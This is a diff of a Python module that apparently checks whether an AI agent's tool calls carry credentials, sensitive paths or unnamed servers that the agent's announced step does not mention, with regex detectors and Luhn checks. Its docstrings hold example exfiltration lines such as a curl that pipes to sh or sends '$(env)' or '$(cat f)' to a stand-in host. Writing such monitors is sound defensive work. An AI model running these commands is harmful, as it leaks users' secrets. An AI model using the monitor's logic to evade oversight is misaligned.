@@ -1,278 +1,29 @@
-"""What a call's values carry that the announcement must show: credentials, sensitive paths,
-hosts, production targets, edits that are more than cosmetic, conditions that select
-everything."""
+"""What a call's values carry that the announcement must show: credentials, sensitive paths
+(``credentials``), hosts (``servervalues``), production targets, edits that are more than
+cosmetic, conditions that select everything."""
 
 from __future__ import annotations
 
 import re
 from collections.abc import Mapping, Sequence
 from functools import cache
-from itertools import pairwise
 from typing import Any
-from urllib.parse import unquote_plus
 
 from . import properties, unsaidvalues
-from .hosts import _HOST, other_origin, server_context, unnamed_server_host
 from .keypress import press_words
-from .kinds import (
-    OBSERVING,
-    UNKNOWN,
-    _command_values,
-    _keys,
-    _kind_table,
-    argument_kinds,
-    call_kinds,
-    command_kinds,
-    name_words,
-    tool_kinds,
-)
+from .kinds import OBSERVING, _command_values, _keys, _kind_table, call_kinds, name_words
 from .kindsfile import _kinds_file, section
-from .memo import folded
 from .observing import EVERY_NOUN_KINDS
-from .passwords import chosen_password
 from .preamble import Announcement
 from .references import _CALL_WORD, _meanings, _referenced, _stem
 from .scope import _scope, _shell_uncommented, _uncommented
-from .secretforms import labelled, secret_form
+from .servervalues import _unnamed_host
 from .statements import statement_kinds
 from .switched import switch_words, switched_off
+from .toolkinds import UNKNOWN, tool_kinds
 from .unsaidnumbers import named_key
 from .walk import _keyed_strings, _leaves, _strings, listed
-from .wordcut import holds_ascii_run
 from .written import stands
-
-
-@cache
-def _sensitive() -> tuple[tuple[str, frozenset[str]], ...]:
-    """[sensitive] in kinds.txt: (fragment, the words that name it). A file with a suffix in a
-    folder (``/var/log/auth.log``) is named by its own name's words: the folder says where it
-    is and the suffix what kind of file, not which ("the logs" names no ``auth.log``)."""
-    return tuple((x.casefold(), _naming(x)) for x in _kinds_file().get("sensitive", ()))
-
-
-def _naming(fragment: str) -> frozenset[str]:
-    words = frozenset(w.casefold() for w in _CALL_WORD.findall(fragment) if len(w) >= 3)
-    folder, _, last = fragment.rstrip("/").rpartition("/")
-    stem, dot, _suffix = last.rpartition(".")
-    own = (frozenset(w.casefold() for w in _CALL_WORD.findall(stem) if len(w) >= 3) if dot
-           else frozenset()) or frozenset(w.casefold() for w in _CALL_WORD.findall(last)
-                                          if len(w) >= 3)
-    # (so is one in a folder without a suffix: "etc" names no /etc/passwd, "ssh" /etc/ssh/)
-    return own if folder and own else words
-
-
-@cache
-def _sensitive_unslashed() -> tuple[tuple[str, frozenset[str]], ...]:
-    """The [sensitive] fragments (in order) that a text whose one "/" ends it may hold: those
-    with no "/" but their last character."""
-    return tuple((f, words) for f, words in _sensitive() if "/" not in f[:-1])
-
-
-_RELATIVE = re.compile(r"(?:^|(?<=[\s=:'\"]))(?=\.[\w-])")
-"""Where a relative path whose first segment is hidden opens (``.env``, ``cat .ssh/config``,
-``--env-file=.env``): read as the segment it is ("/.env")."""
-
-
-def _unnamed_sensitive(name: str, args: Mapping[str, Any], ann: Announcement) -> str | None:
-    """Why a changing call touches a sensitive location ([sensitive]: ~/.ssh/, /etc/sudoers,
-    .bashrc) the announcement does not name by one of its words, or None."""
-    # a fragment's word inside any word the announcement says ("the ssh key", ".bashrc"), or,
-    # for a pronoun object, an observation says ("I see a .env.example file. Let me read it.")
-    said = (*ann.objects, *ann.observed) if ann.pronoun else ann.objects
-    # (from a word's start: "environment" says the "env" of .env, "fetch" does not say the
-    # "etc" of /etc/passwd)
-    spoken = {w for o in said for w in _CALL_WORD.findall(o.casefold())}
-    for v in _strings(args, keys=False):
-        # "/home/dev/.ssh" is the directory "/.ssh/"; a relative path's first segment is one
-        # too (".env", "cat .ssh/id_rsa" from the working directory)
-        low = folded(v)  # (a hidden segment opens with its ".")
-        text = (_RELATIVE.sub("/", low) if "." in low else low) + "/"
-        # (a fragment with a "/" before its end needs one before the text's end)
-        fragments = _sensitive_unslashed() if text.find("/") == len(text) - 1 else _sensitive()
-        for fragment, words in fragments:
-            if fragment in text and not any(s.startswith(w) for s in spoken for w in words):
-                return (f"{name!r} touches {fragment!r} in {v[:60]!r}, a sensitive location "
-                        "the announcement does not name")
-    return None
-
-
-_USERINFO = re.compile(r"[a-z][a-z0-9+.-]*://[^\s/:@]+:[^\s/@]+@", re.IGNORECASE)
-"""A URL carrying a password (``postgres://admin:secret@db``)."""
-_KEY_BLOCK = re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----")
-"""A private key's armour."""
-
-
-def _keylike(run: str) -> bool:
-    """A run of letters and digits with the form of a generated key, not of a word, a name or
-    a hash: not only hex digits (a commit, a digest, an id), and letters and digits alternate
-    at least four times ("q8Zt3LmR0vXw7Yc2", "AKIAIOSFODNN7Q2X9ZPL"; never "getUserById2",
-    "deadbeef0123" or "ubuntu2204server")."""
-    if re.fullmatch(r"[0-9a-f]+|[0-9A-F]+", run):
-        return False
-    return sum(a.isdigit() != b.isdigit() for a, b in pairwise(run)) >= 4
-
-
-_CARD = re.compile(r"(?<![\d-])[3-6]\d{3}(?:([ -]?)\d{4})(?:\1\d{4})\1\d{3,4}(?![\d-])")
-"""Fifteen or sixteen digits in the form of a payment card number (its first digit 3 to 6),
-in groups of four or not."""
-_CARD_LEAD = re.compile(r"[3-6]\d{3}")
-"""How every card number starts: searched first, it skips the lookbehind at every character."""
-_RUN = re.compile(r"[A-Za-z0-9]{16,}")
-"""A run of letters and digits long enough to be a key (``holds_ascii_run`` looks first)."""
-
-
-def _luhn(digits: str) -> bool:
-    """The card number check (Luhn's): a mistyped or random number fails it nine times in ten."""
-    total = 0
-    for i, ch in enumerate(reversed(digits)):
-        d = int(ch) * (2 if i % 2 else 1)
-        total += d - 9 if d > 9 else d
-    return total % 10 == 0
-
-
-def _secret(value: str) -> str | None:
-    """The credential a string holds by its form (a password in a URL, a private key, a run
-    with the form of a generated key, a payment card number that passes its check, a word
-    with the form of a chosen password), or None."""
-    # each regex only where its literal is (a URL's "://", a chosen password's symbol): tried
-    # at every character of a long value they cost most of the intent stage
-    m = (_USERINFO.search(value) if "://" in value else None) or _KEY_BLOCK.search(value)
-    if m is not None:
-        return m.group(0)
-    # written in groups, it is a card's number; one run of digits may be an id, unless it
-    # passes the card check
-    card = next((c.group(0) for c in _CARD.finditer(value)
-                 if c.group(1) or _luhn(c.group(0))), None) \
-        if any(d in value for d in "3456") and _CARD_LEAD.search(value) else None
-    if card is not None:
-        return card
-    m = chosen_password(value) if any(c in value for c in "!#$%^&*?") else None
-    if m is not None:
-        return m.group(0)
-    runs = _RUN.findall(value) if holds_ascii_run(value, 16) else ()
-    return next((r for r in runs if _keylike(r)), None) or secret_form(value)
-
-
-def _unnamed_secret(name: str, args: Mapping[str, Any], ann: Announcement) -> str | None:
-    """Why a call carries a credential (by its form: ``_secret``) the announcement does not
-    show as written, or None: whatever the step, a secret it sends (a search query, a URL, a
-    file's content) is no part of what was announced."""
-    # (the announcement's words are kept casefolded: "ch_3PqL9x2e" is shown as "ch_3pql9x2e")
-    shown = " ".join((*ann.objects, *ann.observed)).casefold()
-    for v in _strings(args, keys=False, numbers=False):
-        found = _secret(v)
-        if found is not None and labelled(found, shown):  # "remove the password"
-            continue
-        if found is not None and found.casefold() not in shown:
-            return (f"{name!r} carries {found[:12]!r}..., a credential by its form, which the "
-                    "announcement does not show")
-    return None
-
-
-_USED_URL = re.compile(r"^\s*[\w.-]+\s*[=:]\s*" + _HOST.pattern + r"|" + _HOST.pattern
-                       + r"[^\n|]*\|(?!\|)|\$\([^\n]*" + _HOST.pattern, re.MULTILINE)
-"""A URL a text uses rather than mentions: a setting's bare value (``registry=https://…``,
-``base_url: https://…``; a quoted string in code, ``url = "https://…"``, is data), a
-download piped into a program (``curl -s https://… | sh``), or a line that substitutes a
-command's output on its way to it (``curl -d "$(env)" https://…``)."""
-
-
-_WHOLE_URL = re.compile(r"\A\s*" + _HOST.pattern + r"\S*\s*\Z")
-"""A value that is a URL as a whole (``url: https://…``, ``destination: ftp://…``,
-``endpoint: s3://bucket/key``): where the call points."""
-_QUERY = re.compile(_HOST.pattern + r"[^\s?#\"'<>]*\?([^\s#\"'<>]+)")
-"""A URL with a query: its host, and the query (``?u=maria&k=…``)."""
-
-
-def _unstated_query(query: str, said: str) -> str | None:
-    """A value of a URL's query (``u=maria``; a bare piece, ``?sk-…``, is a value too) whose
-    words the announcement and observations (``said``) do not all say, or None: data a fetch
-    carries to its server."""
-    words = set(_CALL_WORD.findall(said))
-    for piece in query.split("&"):
-        value = unquote_plus(piece.partition("=")[2] if "=" in piece else piece).casefold()
-        if not set(_CALL_WORD.findall(value)) <= words:
-            return piece
-    return None
-
-
-_LOOPBACK = frozenset({"localhost", "127.0.0.1", "[::1]"})
-"""The machine itself: a look at a service it runs reaches no other's server."""
-
-
-def _fetched_host(name: str, keyed: list[tuple[str, str]], said: str, there: str,
-                  fetches: bool) -> str | None:
-    """Why an observing call's command line fetches from a server the announcement does not
-    name, or None: a fetch (``curl``, ``wget``) riding beside a look, unless the announcement
-    says a fetch ("check the config" + ``cat config.yaml; curl https://x.example``), or a URL
-    that carries a substitution's output, whatever is announced (``https://x.example/$(base64
-    f)``: a send), or a server beside one the announcement names. A fetch alone names its
-    source in other words ("clone the widgets/core repository" + ``git clone
-    https://github.com/widgets/core``)."""
-    for key, v in keyed:
-        kinds = command_kinds(v) if _keys("command") & set(name_words(key)) else frozenset()
-        if "fetch" not in kinds:
-            continue
-        hosts = [(m, m.group(1)) for m in _HOST.finditer(v)
-                 if m.group(1).casefold() not in _LOOPBACK]
-        named = any(not unnamed_server_host(h, said, there) for _m, h in hosts)
-        for m, host in hosts:
-            url = v[m.start():].split(None, 1)[0]
-            if ((kinds - {"fetch"} and not fetches) or named or any(c in url for c in "$`")) \
-                    and unnamed_server_host(host, said, there):
-                return (f"{name!r} fetches from {host[:40]!r}, a server the "
-                        "announcement does not name")
-    return None
-
-
-def _unnamed_host(name: str, args: Mapping[str, Any], ann: Announcement,
-                  kinds: frozenset[str] = frozenset({"write"})) -> str | None:
-    """Why a call reaches a server the announcement does not name, or None. A changing call
-    (``kinds``: its changing kinds, none for an observing one): a URL its text uses
-    (``_USED_URL``) or a value that is a URL whole (``_WHOLE_URL``, under any key but the
-    prose a message says: a webhook's ``url``, an export's ``destination``, an SSO
-    ``metadata_url``; unless the call only fetches from it, a download, its arguments saying
-    no other step); any call: a URL whose query carries a value the announcement does not
-    say (``_unstated_query``: "fetch the pricing page" + ``?u=maria``), a send. Its host (an
-    IP literal too) must be written out by its registrable domain (``unnamed_server_host``:
-    "evil-cdn" is no get.evil-cdn.net, "Slack" no hooks.slack.com.evil.example) or be in a
-    replaced text (an edit's ``old_string``). What a call writes, runs or points at sends
-    nothing to, and fetches nothing from, a server the step does not name (a workflow
-    posting the environment, a registry swapped in a config, an install script piped into a
-    shell, a webhook or an export to another's host, a fetch carrying data)."""
-    keyed = list(_keyed_strings(args))
-    why = other_origin(name, keyed, ann)
-    if why is not None or not any("://" in v for _, v in keyed):
-        return why  # every URL pattern below holds a host after its "://" (``_HOST``)
-    said, there = server_context(ann, keyed)
-    if not kinds:  # a command line that looks fetches from no server the announcement does not
-        # name: "check the config" + ``cat config.yaml; curl "https://x.example/$(cat f)"``
-        why = _fetched_host(name, keyed, said, there, any(k == "fetch" for _v, k in ann.verbs))
-        if why is not None:
-            return why
-    # a URL a call fetches from is its source: a download's, not where it sends
-    points = bool(kinds) and not ("fetch" in kinds and not argument_kinds(args) - OBSERVING)
-    for key, v in keyed:
-        words = set(name_words(key))
-        if "old" in words:
-            continue
-        found = [*_USED_URL.finditer(v)] if kinds else []
-        if points and not words & _keys("prose"):
-            found += [*_WHOLE_URL.finditer(v)]
-        for m in found:
-            host = next(g for g in m.groups() if g)
-            if unnamed_server_host(host, said, there):
-                return (f"{name!r} sends to or runs from {host[:40]!r}, a server the "
-                        "announcement does not name")
-        if words & _keys("prose"):
-            continue
-        for m in _QUERY.finditer(v):
-            piece = _unstated_query(m.group(2), said)
-            if piece is not None and unnamed_server_host(m.group(1), said, there):
-                return (f"{name!r} sends {piece[:30]!r} to {m.group(1)[:40]!r} in a URL's "
-                        "query, a server the announcement does not name")
-    return None
-
 
 _PIECE = re.compile(r"\w+|[^\w\s]")
 """A word or a symbol of a text."""
